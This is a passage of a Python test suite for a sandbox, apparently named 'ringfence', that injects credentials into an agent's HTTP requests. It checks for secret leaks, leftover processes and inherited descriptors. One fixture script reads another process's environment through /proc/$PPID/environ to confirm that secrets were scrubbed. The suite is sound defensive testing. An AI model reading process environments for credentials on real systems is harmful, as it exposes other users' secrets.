    assert "cmd-secret-run" not in r.stdout, r.stdout
    refl = one.events("cred.reflect")
    assert refl and refl[0]["credential"] == "tok", one.events()


def test_a_command_that_leaves_a_process_behind(one):
    """Its end is its exit, not its stdout's: a process it started in the
    background that holds stdout does not make it time out, and is killed
    with its process group."""
    marker, pidfile = one.path("cmd-bg-alive"), one.path("cmd-bg-pid")
    p = policy(one, creds="[credential tok]\nenv = TOK\nsource = cmd:/bin/sh -c "
               "\"echo bg-secret-0123456789; (sleep 3; touch %s) & echo $! > %s\"\n"
               "hosts = good.test\ninject = bearer\ntimeout = 2s\n" % (marker, pidfile))
    if one.user == "nobody":
        os.chown(one.root, NOBODY, NOBODY)
    r = run(one, CURL + '-H "Authorization: Bearer $TOK" https://good.test/seen', p)
    assert r.returncode == 0, r.stderr
    assert "Authorization: Bearer bg-secret-0123456789\n" in unhex(r.stdout)
    # the background process ends (killed: left alone it would live 3 s and
    # then touch the marker), which the test waits for instead of 3 s; a
    # zombie has ended, its parent gone and this machine's init slow to
    # reap it
    with open(pidfile) as f:
        pid = int(f.read())

    def alive():
        try:
            with open("/proc/%d/stat" % pid) as f:
                return f.read().rsplit(")", 1)[1].split()[0] != "Z"
        except FileNotFoundError:
            return False
    deadline = time.monotonic() + 10
    while alive() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not alive(), "the command's background process lives on"
    assert not os.path.exists(marker)


def test_the_command_is_given_no_descriptor_but_its_three(one):
    """stdin (/dev/null), stdout (the pipe) and stderr: the helper's channel
    to the supervisor (its fd 3, put there by dup2, which clears
    close-on-exec) went to every command, and to what it leaves running
    (found by an outside review)."""
    fds = one.path("cmd-fds")
    p = policy(one, creds="[credential tok]\nenv = TOK\nsource = cmd:/bin/sh -c "
               "\"ls /proc/self/fd > %s; echo fd-secret-0123456789\"\n"
               "hosts = good.test\ninject = bearer\n" % fds)
    if one.user == "nobody":
        os.chown(one.root, NOBODY, NOBODY)
    r = run(one, CURL + '-H "Authorization: Bearer $TOK" https://good.test/seen', p)
    assert r.returncode == 0, r.stderr
    # the control: the command ran, and its secret was sent
    assert "Authorization: Bearer fd-secret-0123456789\n" in unhex(r.stdout)
    with open(fds) as f:
        listed = sorted(int(x) for x in f.read().split())
    # ls's own directory descriptor is the one past its three
    assert listed == [0, 1, 2, 3], listed


def test_the_forms_inject_writes_are_not_reflected(one):
    """/headers hands back what it received: the secret as a query
    parameter (percent-encoded), inside Basic (base64) and as a header,
    each in the form the mode wrote it, never reaches the command."""
    p = policy(one, creds=MODE_CREDS % {"extra": ""})
    r = run(one, "; ".join([
        CURL + '"https://good.test/headers?key=$Q_TOKEN"',
        CURL + '-u "someone:$BASICP_TOKEN" https://good.test/headers',
        CURL + '-H "X-Api-Key: $HDR_TOKEN" https://good.test/headers',
        "echo done"]), p, env=MODE_ENV)
    assert "done" in r.stdout, r.stderr
    b = base64.b64encode(("apiuser:" + S["BASICP"]).encode()).decode()
    for leaked in ("q%2FSecret%260005%20%3Dx", b, S["HDR"], S["Q"], S["BASICP"]):
        assert leaked not in r.stdout, (leaked, r.stdout)
    assert {e["credential"] for e in one.events("cred.reflect")} == {"q", "basicp", "hdr"}


def test_ctrl_c_at_the_terminal_does_not_end_the_refresh(one):
    """An agent that goes on after a Ctrl-C keeps its secrets fresh: the
    terminal's SIGINT to ringfence's process group does not reach what runs
    the commands."""
    import signal
    p = cmd_box(one)
    hdr = '-H "Authorization: Bearer $TOK" '
    proc = one.popen(["sh", "-c", "trap '' INT; " + CURL + hdr + "https://good.test/seen; "
                      "echo first; read x; sleep 2.2; " + CURL + hdr + "https://good.test/seen"],
                     policy=p, env={}, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                     stderr=subprocess.PIPE, text=True, start_new_session=True)
    first = ""
    while "first" not in first:
        line = proc.stdout.readline()
        assert line, proc.stderr.read()
        first += line
    os.killpg(proc.pid, signal.SIGINT)
    time.sleep(0.3)
    out, err = proc.communicate("go\n", timeout=30)
    assert proc.returncode == 0, err
    seen = re.findall(r"Authorization: Bearer (\S+)", unhex(first + out))
    assert len(seen) == 2 and seen[0].startswith("cmd-secret-run-"), (first, out, err)
    assert seen[1] != seen[0] and seen[1].startswith("cmd-secret-run-"), seen


def test_the_command_and_its_helper_hold_no_other_secret(world):
    """The helper is forked before the supervisor scrubs its environment:
    it scrubs its own, so neither the command's environment nor the
    helper's /proc/PID/environ holds another credential's secret (nor a
    copy of it in another variable)."""
    b = NetBox(world, "root", "namespace")
    try:
        d = b.path("cmd")
        os.makedirs(d)
        script = b.write("cmd/token.sh", 'env > "%s/env"; cat /proc/$PPID/environ > "%s/penv";'
                         ' echo "cmd-secret-0123456789"\n' % (d, d))
        p = policy(b, creds="[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
                   "hosts = good.test\n[credential tok]\nenv = TOK\nsource = cmd:/bin/sh %s\n"
                   "hosts = good.test\n" % script)
        r = run(b, 'echo "$TOK"', p, env={"GH_COPY": "x" + SECRET, "OTHER": "kept"})
        assert r.returncode == 0 and r.stdout.startswith("ringfence_tok_"), r.stderr
        for f in ("env", "penv"):
            with open(os.path.join(d, f), "rb") as fh:
                data = fh.read()
            assert SECRET[4:].encode() not in data, (f, data)
            assert b"OTHER=kept" in data, (f, data)  # the rest is the caller's
            if f == "env":  # (the initial stack keeps the names, zeroed)
                assert b"GH_COPY" not in data and b"RF_SECRET" not in data, data
    finally:
        b.cleanup()
